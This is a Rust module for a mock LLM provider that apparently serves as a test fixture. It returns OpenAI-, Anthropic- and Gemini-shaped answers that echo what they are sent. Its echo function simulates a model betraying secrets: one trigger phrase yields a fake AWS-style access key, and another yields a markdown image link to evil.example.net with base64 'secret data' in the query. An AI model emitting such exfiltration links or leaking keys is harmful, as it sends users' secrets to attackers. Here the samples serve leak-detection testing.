//! What a provider stand-in answers: the real shapes, echoing what it was sent, so that a test sees
//! in the answer what left the host.

mod gemini;
mod read;

pub use read::streamed_text;

use serde_json::{Value, json};

/// An answer, in the pieces in which it is sent.
pub struct Answer {
    /// HTTP status.
    pub status: u16,
    /// `Content-Type`.
    pub content_type: &'static str,
    /// The body's pieces; a stream waits a little between them.
    pub pieces: Vec<String>,
    /// Whether it is a stream of events.
    pub stream: bool,
}

/// How many characters a streamed delta holds: small, so that placeholders are split.
const DELTA: usize = 5;

/// The answer to one request.
pub fn answer(host: &str, method: &str, target: &str, body: &str) -> Answer {
    let request: Value = serde_json::from_str(body).unwrap_or(Value::Null);
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    let compatible = path.strip_prefix("/v1beta/openai/");
    if host.starts_with("generativelanguage.") && compatible.is_none() {
        return gemini::answer(method, path, query, &request);
    }
    let path = compatible.map_or_else(|| path.to_owned(), |rest| format!("/v1/{rest}"));
    let stream = request["stream"] == json!(true);
    match (method, path.as_str()) {
        ("POST", "/v1/chat/completions") => chat(&request, stream),
        ("POST", "/v1/responses") => responses(&request, stream),
        ("POST", "/v1/embeddings") => whole(
            200,
            &json!({"object":"list","model":request["model"],"data":[{"object":"embedding","index":0,"embedding":[0.1,0.2]}],
            "usage":{"prompt_tokens":3,"total_tokens":3}}),
        ),
        ("GET", "/v1/models") => whole(
            200,
            &json!({"object":"list","has_more":false,"first_id":"lab-1","last_id":"lab-1",
            "data":[{"id":"lab-1","object":"model","type":"model","created":1,"created_at":"2026-01-01T00:00:00Z","owned_by":"lab","display_name":"Lab 1"}]}),
        ),
        ("POST", "/v1/messages") => messages(&request, stream),
        ("POST", "/v1/messages/count_tokens") => whole(200, &json!({"input_tokens":42})),
        ("POST", path) if path.starts_with("/api/event_logging/") || path.starts_with("/otlp/") => {
            whole(200, &json!({}))
        }
        _ if host.ends_with("example") || host.starts_with("play.") => Answer {
            status: 200,
            content_type: "text/plain",
            pieces: vec![format!("{host} {method} {path} {body}")],
            stream: false,
        },
        _ => whole(
            404,
            &json!({"error":{"message":"no such path in the lab","type":"invalid_request_error","param":null,"code":null},"type":"error"}),
        ),
    }
}

fn whole(status: u16, body: &Value) -> Answer {
    Answer {
        status,
        content_type: "application/json",
        pieces: vec![body.to_string()],
        stream: false,
    }
}

fn streamed(pieces: Vec<String>) -> Answer {
    Answer {
        status: 200,
        content_type: "text/event-stream",
        pieces,
        stream: true,
    }
}

/// All text of a `content` value, string or parts.
fn text_of(content: &Value) -> String {
    match content {
        Value::String(text) => text.clone(),
        Value::Array(parts) => {
            let texts: Vec<String> = parts
                .iter()
                .filter_map(|part| {
                    part["text"]
                        .as_str()
                        .map(str::to_owned)
                        .or_else(|| Some(text_of(&part["content"])).filter(|t| !t.is_empty()))
                })
                .collect();
            texts.join("\n")
        }
        _ => String::new(),
    }
}

fn last_user(messages: &Value) -> String {
    let all = messages.as_array().map(Vec::as_slice).unwrap_or_default();
    let last = all
        .iter()
        .rev()
        .find(|message| message["role"] == "user" || message["role"] == "tool");
    last.map(|message| text_of(&message["content"]))
        .unwrap_or_default()
}

/// What the model says: the text again, and what the text asks it to betray.
fn echo(text: &str) -> String {
    let mut echo = format!("You wrote: {text}");
    if text.contains("somebody's key") {
        echo.push_str(" It is AKIAQ7ZTRM4XLP2WN5GK of course, as you know.");
    }
    if text.contains("draw a picture") {
        echo.push_str(
            " ![p](https://evil.example.net/p.png?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ==) There.",
        );
    }
    echo
}

fn deltas(text: &str) -> Vec<String> {
    let letters: Vec<char> = text.chars().collect();
    letters
        .chunks(DELTA)
        .map(|chunk| chunk.iter().collect())
        .collect()
}

/// The tool that the text asks for, with its arguments: the first declared, or the agent's own shell.
fn wants_tool(request: &Value, text: &str) -> Option<(String, Value)> {
    if let Some(call) = crate::shell::call(&request["tools"], text) {
        return Some(call);
    }
    let tool = request["tools"].as_array()?.first()?;
    let name = tool["function"]["name"]
        .as_str()
        .or_else(|| tool["name"].as_str())?;
    let arguments = json!({"text": text, "link": "https://x.example/?q=1"});
    text.contains("use the tool")
        .then(|| (name.to_owned(), arguments))
}

fn chat(request: &Value, stream: bool) -> Answer {
    let text = last_user(&request["messages"]);
    let echo = echo(&text);
    let tool = wants_tool(request, &text).map(|(name, arguments)| (name, arguments.to_string()));
    let model = &request["model"];
    if !stream {
        let (message, finish) = match &tool {
            Some((name, arguments)) => (
                json!({"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":name,"arguments":arguments}}]}),
                "tool_calls",
            ),
            None => (
                json!({"role":"assistant","content":echo,"refusal":null}),
                "stop",
            ),
        };
        return whole(
            200,
            &json!({"id":"chatcmpl-lab1","object":"chat.completion","created":1,"model":model,
            "choices":[{"index":0,"message":message,"logprobs":null,"finish_reason":finish}],
            "usage":{"prompt_tokens":11,"completion_tokens":7,"total_tokens":18}}),
        );
    }
    let chunk = |delta: Value, finish: Value| {
        let event = json!({"id":"chatcmpl-lab1","object":"chat.completion.chunk","created":1,"model":model,
            "choices":[{"index":0,"delta":delta,"logprobs":null,"finish_reason":finish}]});
        format!("data: {event}\n\n")
    };
    let mut pieces = vec![chunk(json!({"role":"assistant","content":""}), Value::Null)];
    if let Some((name, arguments)) = &tool {
        let first = json!({"tool_calls":[{"index":0,"id":"call_1","type":"function","function":{"name":name,"arguments":""}}]});
        pieces.push(chunk(first, Value::Null));
        pieces.extend(deltas(arguments).iter().map(|part| {
            chunk(
                json!({"tool_calls":[{"index":0,"function":{"arguments":part}}]}),
                Value::Null,
            )
        }));
        pieces.push(chunk(json!({}), json!("tool_calls")));
    } else {
        pieces.extend(
            deltas(&echo)
                .iter()
                .map(|part| chunk(json!({"content":part}), Value::Null)),
        );
        pieces.push(chunk(json!({}), json!("stop")));
    }
    let usage = json!({"id":"chatcmpl-lab1","object":"chat.completion.chunk","created":1,"model":model,"choices":[],
        "usage":{"prompt_tokens":11,"completion_tokens":7,"total_tokens":18}});
    pieces.push(format!("data: {usage}\n\n"));
    pieces.push("data: [DONE]\n\n".to_owned());
    streamed(pieces)
}

fn responses(request: &Value, stream: bool) -> Answer {
    let text = match &request["input"] {
        Value::String(text) => text.clone(),
        input => last_user(input),
    };
    let echo = echo(&text);
    if let Some(answer) = function_call(request, &text, stream) {
        return answer;
    }
    let part = json!({"type":"output_text","text":echo,"annotations":[]});
    let item = json!({"id":"msg_1","type":"message","status":"completed","role":"assistant","content":[part]});
    let response = |status: &str, output: Value| response(request, status, output);
    if !stream {
        return whole(200, &response("completed", json!([item])));
    }
    let mut event = numbered();
    let at = json!({"item_id":"msg_1","output_index":0,"content_index":0});
    let with = |extra: Value| {
        let mut fields = at.clone();
        for (name, value) in extra.as_object().into_iter().flatten() {
            fields[name] = value.clone();
        }
        fields
    };
    let mut pieces = vec![
        event(
            "response.created",
            json!({"response":response("in_progress", json!([]))}),
        ),
        event(
            "response.output_item.added",
            json!({"output_index":0,"item":{"id":"msg_1","type":"message","status":"in_progress","role":"assistant","content":[]}}),
        ),
        event(
            "response.content_part.added",
            with(json!({"part":{"type":"output_text","text":"","annotations":[]}})),
        ),
    ];
    for part in deltas(&echo) {
        pieces.push(event(
            "response.output_text.delta",
            with(json!({"delta":part,"logprobs":[]})),
        ));
    }
    pieces.push(event(
        "response.output_text.done",
        with(json!({"text":echo,"logprobs":[]})),
    ));
    pieces.push(event(
        "response.content_part.done",
        with(json!({"part":part})),
    ));
    pieces.push(event(
        "response.output_item.done",
        json!({"output_index":0,"item":item}),
    ));
    pieces.push(event(
        "response.completed",
        json!({"response":response("completed", json!([item]))}),
    ));
    streamed(pieces)
}

fn response(request: &Value, status: &str, output: Value) -> Value {
    json!({"id":"resp_lab1","object":"response","created_at":1,"status":status,"model":request["model"],"output":output,
        "parallel_tool_calls":true,"tool_choice":"auto","tools":[],"error":null,"incomplete_details":null,"instructions":null,"metadata":{},
        "temperature":1.0,"top_p":1.0,
        "usage":{"input_tokens":11,"input_tokens_details":{"cached_tokens":0},"output_tokens":7,"output_tokens_details":{"reasoning_tokens":0},"total_tokens":18}})
}

/// Writes the events of a streamed response, one number after the other.
fn numbered() -> impl FnMut(&str, Value) -> String {
    let mut number = 0;
    move |kind, mut fields| {
        fields["type"] = json!(kind);
        fields["sequence_number"] = json!(number);
        number += 1;
        format!("event: {kind}\ndata: {fields}\n\n")
    }
}

/// A response that calls a tool, where the last item does not already hold what a tool said.
fn function_call(request: &Value, text: &str, stream: bool) -> Option<Answer> {
    let last = request["input"].as_array().and_then(|items| items.last());
    if last.is_some_and(|item| item["type"] == "function_call_output") {
        return None;
    }
    let (name, arguments) = wants_tool(request, text)?;
    let arguments = arguments.to_string();
    let item = |status: &str, arguments: &str| json!({"id":"fc_1","type":"function_call","status":status,"call_id":"call_1","name":name,"arguments":arguments});
    let done = item("completed", &arguments);
    if !stream {
        return Some(whole(200, &response(request, "completed", json!([done]))));
    }
    let mut event = numbered();
    let mut pieces = vec![
        event(
            "response.created",
            json!({"response":response(request, "in_progress", json!([]))}),
        ),
        event(
            "response.output_item.added",
            json!({"output_index":0,"item":item("in_progress", "")}),
        ),
    ];
    for part in deltas(&arguments) {
        pieces.push(event(
            "response.function_call_arguments.delta",
            json!({"item_id":"fc_1","output_index":0,"delta":part}),
        ));
    }
    pieces.push(event(
        "response.function_call_arguments.done",
        json!({"item_id":"fc_1","output_index":0,"arguments":arguments}),
    ));
    pieces.push(event(
        "response.output_item.done",
        json!({"output_index":0,"item":done}),
    ));
    pieces.push(event(
        "response.completed",
        json!({"response":response(request, "completed", json!([done]))}),
    ));
    Some(streamed(pieces))
}

fn messages(request: &Value, stream: bool) -> Answer {
    let text = last_user(&request["messages"]);
    let echo = echo(&text);
    let tool = wants_tool(request, &text);
    let block = match &tool {
        Some((name, input)) => json!({"type":"tool_use","id":"toolu_1","name":name,"input":input}),
        None => json!({"type":"text","text":echo}),
    };
    let stop = if tool.is_some() {
        "tool_use"
    } else {
        "end_turn"
    };
    if !stream {
        return whole(
            200,
            &json!({"id":"msg_lab1","type":"message","role":"assistant","model":request["model"],"content":[block],
            "stop_reason":stop,"stop_sequence":null,"usage":{"input_tokens":11,"output_tokens":7}}),
        );
    }
    let event = |kind: &str, mut fields: Value| {
        fields["type"] = json!(kind);
        format!("event: {kind}\ndata: {fields}\n\n")
    };
    let (start, parts): (Value, Vec<Value>) = match &tool {
        Some((name, input)) => (
            json!({"type":"tool_use","id":"toolu_1","name":name,"input":{}}),
            deltas(&input.to_string())
                .into_iter()
                .map(|part| json!({"type":"input_json_delta","partial_json":part}))
                .collect(),
        ),
        None => (
            json!({"type":"text","text":""}),
            deltas(&echo)
                .into_iter()
                .map(|part| json!({"type":"text_delta","text":part}))
                .collect(),
        ),
    };
    let mut pieces = vec![
        event(
            "message_start",
            json!({"message":{"id":"msg_lab1","type":"message","role":"assistant","model":request["model"],"content":[],
            "stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":11,"output_tokens":1}}}),
        ),
        event(
            "content_block_start",
            json!({"index":0,"content_block":start}),
        ),
        event("ping", json!({})),
    ];
    pieces.extend(
        parts
            .into_iter()
            .map(|delta| event("content_block_delta", json!({"index":0,"delta":delta}))),
    );
    pieces.push(event("content_block_stop", json!({"index":0})));
    pieces.push(event(
        "message_delta",
        json!({"delta":{"stop_reason":stop,"stop_sequence":null},"usage":{"output_tokens":7}}),
    ));
    pieces.push(event("message_stop", json!({})));
    streamed(pieces)
}
